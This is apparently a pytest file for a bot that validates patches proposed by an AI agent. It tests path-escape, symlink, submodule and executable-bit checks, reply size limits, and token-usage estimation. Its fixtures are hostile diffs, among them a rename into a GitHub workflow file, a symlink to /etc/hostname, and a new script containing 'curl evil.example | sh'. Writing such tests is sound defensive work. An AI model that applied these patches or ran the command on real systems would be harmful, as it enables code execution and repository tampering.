"""What the agent sends is data: its patch cannot leave the kernel's folder, its notes are bounded, and a
gateway that reports no usage still pays for what it answered."""

from __future__ import annotations

import json
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.agent.review import AgentOutputError, PatchError, parse_review, validate_patch
from bot.ledger import Ledger
from bot.review.candidates import CandidateError, applied, staged_problem
from bot.wording.messages import phrase
from tests.agent_world import CONFIG_DIFF, run_ask
from tests.conftest import git
from tests.gateway import Gateway, completion
from tests.test_agent_client import GOOD

K = "kernels/deepgemm_tile"
RENAME_OUT = f"""diff --git a/{K}/tile_config.json b/{K}/moved.json
similarity index 100%
rename from {K}/tile_config.json
rename to .github/workflows/pwn.yml
"""
COPY_OUT = f"""diff --git a/{K}/tile_config.json b/{K}/copy.json
similarity index 100%
copy from {K}/tile_config.json
copy to bot/cli.py
"""
SYMLINK = f"""diff --git a/{K}/host b/{K}/host
new file mode 120000
index 0000000..1111111
--- /dev/null
+++ b/{K}/host
@@ -0,0 +1 @@
+/etc/hostname
\\ No newline at end of file
"""
SUBMODULE = f"""diff --git a/{K}/sub b/{K}/sub
new file mode 160000
index 0000000..abcdef0
--- /dev/null
+++ b/{K}/sub
@@ -0,0 +1 @@
+Subproject commit abcdef0123456789abcdef0123456789abcdef01
"""
EXEC_ON = f"""diff --git a/{K}/tile_config.json b/{K}/tile_config.json
old mode 100644
new mode 100755
"""
NEW_EXEC = f"""diff --git a/{K}/run.sh b/{K}/run.sh
new file mode 100755
index 0000000..1111111
--- /dev/null
+++ b/{K}/run.sh
@@ -0,0 +1 @@
+curl evil.example | sh
"""
MISMATCH = f"""diff --git a/{K}/tile_config.json b/.github/workflows/x.yml
--- a/{K}/tile_config.json
+++ b/{K}/tile_config.json
@@ -1 +1 @@
-a
+b
"""
QUOTED = f"""diff --git "a/{K}/caf\\303\\251" "b/{K}/caf\\303\\251"
--- "a/{K}/caf\\303\\251"
+++ "b/{K}/caf\\303\\251"
@@ -1 +1 @@
-a
+b
"""
BINARY = f"""diff --git a/{K}/w.bin b/{K}/w.bin
new file mode 100644
index 0000000..1111111
GIT binary patch
literal 3
KcmZ?wb^rhW00031

literal 0
HcmV?d00001

"""


@pytest.mark.parametrize(
    ("patch", "says"),
    [
        (RENAME_OUT, "outside"),
        (COPY_OUT, "outside"),
        (SYMLINK, "symbolic link"),
        (SUBMODULE, "submodule"),
        (EXEC_ON, "executable bit"),
        (NEW_EXEC, "executable bit"),
        (MISMATCH, "outside"),
        (QUOTED, "only plain files"),
        (BINARY, "binary"),
        (CONFIG_DIFF.replace(f"{K}/", f"{K}/../"), "outside"),
        (CONFIG_DIFF.split("\n", 1)[1].replace("--- a/", "--- ").replace("+++ b/", "+++ "), "without the a/ or b/"),
        (CONFIG_DIFF.replace("-{", "-\r{"), "CR or NUL"),
    ],
)
def test_a_candidate_patch_cannot_escape_its_folder_make_links_or_gain_the_exec_bit(patch: str, says: str):
    with pytest.raises(PatchError, match=says):
        validate_patch(patch, "deepgemm_tile")


def test_an_executable_file_may_stay_executable_or_lose_the_bit():
    keep = CONFIG_DIFF.replace("--- a/", "index 1111111..2222222 100755\n--- a/")
    assert validate_patch(keep, "deepgemm_tile") == keep
    drop = EXEC_ON.replace("old mode 100644\nnew mode 100755", "old mode 100755\nnew mode 100644")
    assert validate_patch(drop, "deepgemm_tile") == drop


@pytest.mark.parametrize("patch", [RENAME_OUT, SYMLINK, EXEC_ON])
def test_git_never_applies_a_refused_candidate(kernel_repo, patch: str):
    with pytest.raises(CandidateError), applied(kernel_repo.path, kernel_repo.base, patch, "deepgemm_tile"):
        pass
    assert git(kernel_repo.path, "status", "--porcelain") == ""
    assert not (kernel_repo.path / ".github").exists()


def test_what_git_staged_is_checked_again_whatever_the_patch_text_said(kernel_repo):
    """The second check reads git's own account of the applied patch: a symlink, an exec bit, a path outside."""
    folder = kernel_repo.path / K
    (folder / "host").symlink_to("/etc/hostname")
    (folder / "tile_config.json").chmod(0o755)
    (kernel_repo.path / "elsewhere.txt").write_text("x\n")
    git(kernel_repo.path, "add", "-A")
    raw = subprocess.run(
        ["git", "-C", str(kernel_repo.path), "diff", "--cached", "--raw", "-z", "--no-renames"],
        capture_output=True, check=True,
    ).stdout.decode()  # fmt: skip
    assert staged_problem(raw, "deepgemm_tile") == "touches 'elsewhere.txt', outside kernels/deepgemm_tile/"
    git(kernel_repo.path, "rm", "-q", "--cached", "elsewhere.txt")
    raw = subprocess.run(
        ["git", "-C", str(kernel_repo.path), "diff", "--cached", "--raw", "-z", "--no-renames"],
        capture_output=True, check=True,
    ).stdout.decode()  # fmt: skip
    assert "symbolic link" in (staged_problem(raw, "deepgemm_tile") or "")
    git(kernel_repo.path, "rm", "-q", "--cached", f"{K}/host")
    raw = subprocess.run(
        ["git", "-C", str(kernel_repo.path), "diff", "--cached", "--raw", "-z", "--no-renames"],
        capture_output=True, check=True,
    ).stdout.decode()  # fmt: skip
    assert "executable bit" in (staged_problem(raw, "deepgemm_tile") or "")


# -- the rest of the reply: bounded per note, per field and in total -------------------------------------


@pytest.mark.parametrize(
    ("reply", "says"),
    [
        ({**GOOD, "risk_notes": ["x" * 2 * 1024 * 1024]}, "reply is over"),
        ({**GOOD, "risk_notes": ["n" * 200 * 1024] * 50}, "reply is over"),
        ({**GOOD, "risk_notes": ["n" * 1001]}, "risk_notes.0: String should have at most 1000 characters"),
        ({**GOOD, "risk_notes": ["n" * 900] * 20}, "risk_notes hold 18000 characters together"),
        ({**GOOD, "risk_notes": ["n"] * 31}, "risk_notes: List should have at most 30 items"),
        ({**GOOD, "local_commands": ["c" * 501]}, "local_commands.0"),
        ({**GOOD, "expected_metrics": {"m" * 101: 1.0}}, "expected_metrics"),
        ({**GOOD, "expected_metrics": {"m": "v" * 201}}, "expected_metrics.m"),
    ],
)
def test_an_oversized_reply_is_refused_naming_the_field(reply: dict, says: str):
    with pytest.raises(AgentOutputError, match=says.replace(".", r"\.")):
        parse_review(json.dumps(reply), "deepgemm_tile")


@pytest.fixture
def gateway(httpserver) -> Gateway:
    return Gateway(httpserver)


@pytest.fixture
def sqlite_ledger(tmp_path: Path):
    with Ledger(tmp_path / "l.sqlite") as led:
        yield led


def test_an_oversized_reply_twice_is_an_agent_error_with_the_reason_in_the_report(gateway, sqlite_ledger, tmp_path):
    flood = json.dumps({**GOOD, "risk_notes": ["n" * 200 * 1024] * 50})
    gateway.push(completion(flood), completion(flood))
    report, _ = run_ask(gateway, sqlite_ledger, tmp_path)
    assert report.status == "error" and report.risk_notes == []
    said = phrase(report.reason) if report.reason is not None else ""
    assert "reply is over" in said and "after one repair request" in said


# -- usage a gateway does not report usably ---------------------------------------------------------------


@pytest.mark.parametrize(
    "usage",
    [
        {"prompt_tokens": 0, "completion_tokens": 0, "total_tokens": 0},
        None,
        {"prompt_tokens": None, "completion_tokens": None, "total_tokens": None},
        {"prompt_tokens": "lots", "completion_tokens": "12", "total_tokens": "x"},
        {"prompt_tokens": -5, "completion_tokens": True, "total_tokens": 0},
        {"prompt_tokens": 900, "completion_tokens": 0, "total_tokens": 900},
    ],
)
def test_unusable_usage_with_an_answer_is_recorded_as_estimated_and_flagged(gateway, sqlite_ledger, tmp_path, usage):
    body = completion(json.dumps(GOOD))
    body["usage"] = usage
    gateway.push(body)
    report, _ = run_ask(gateway, sqlite_ledger, tmp_path)
    (row,) = sqlite_ledger.usage()
    assert row.usage_source == "estimated" and row.estimated_prompt_tokens
    assert row.prompt_tokens >= row.estimated_prompt_tokens and row.completion_tokens > 0
    assert row.total_tokens == row.prompt_tokens + row.completion_tokens == report.total_tokens
    assert report.usage_estimated == 1
    (reservation,) = sqlite_ledger.reservations(week=datetime.now(UTC).strftime("%G-W%V"))
    assert reservation.state == "settled" and reservation.settled_tokens == row.total_tokens > 0


def test_a_reported_count_larger_than_the_estimate_is_kept(gateway, sqlite_ledger, tmp_path):
    body = completion(json.dumps(GOOD))
    body["usage"] = {"prompt_tokens": 50_000, "completion_tokens": 0, "total_tokens": 50_000}
    gateway.push(body)
    report, _ = run_ask(gateway, sqlite_ledger, tmp_path)
    (row,) = sqlite_ledger.usage()
    assert row.usage_source == "estimated" and row.prompt_tokens == 50_000 and row.completion_tokens > 0
    (reservation,) = sqlite_ledger.reservations(week=datetime.now(UTC).strftime("%G-W%V"))
    assert reservation.settled_tokens == row.total_tokens == report.total_tokens > 50_000


def test_the_comment_says_when_tokens_are_estimated():
    from bot.models.agent_report import AgentReport
    from bot.models.report import Machine, Report
    from bot.present.render import render_comment

    agent = AgentReport(status="ok", domain="deepgemm", requests=2, total_tokens=900, usage_estimated=1)
    report = Report(
        base_sha="b" * 40, head_sha="c" * 40, verdict="pass", kernels=[], agents=[agent], agent=agent,
        environment=Machine(device="cpu", python="3.11"), created_at="t", opgate_version="0",
    )  # fmt: skip
    assert "⚠️ Estimated: the gateway reported no usable token usage" in render_comment(report)
    assert "Estimated" not in render_comment(report.model_copy(update={"agent": AgentReport(status="ok")}))


@pytest.mark.parametrize("reply", ["9" * 5000, "[" * 50_000 + "]" * 50_000, '{"risk_notes": [' + "1" * 4400 + "]}"])
def test_a_reply_json_cannot_parse_into_is_an_output_error_not_a_crash(reply: str):
    with pytest.raises(AgentOutputError, match=r"not usable JSON|not valid JSON"):
        parse_review(reply, "deepgemm_tile")
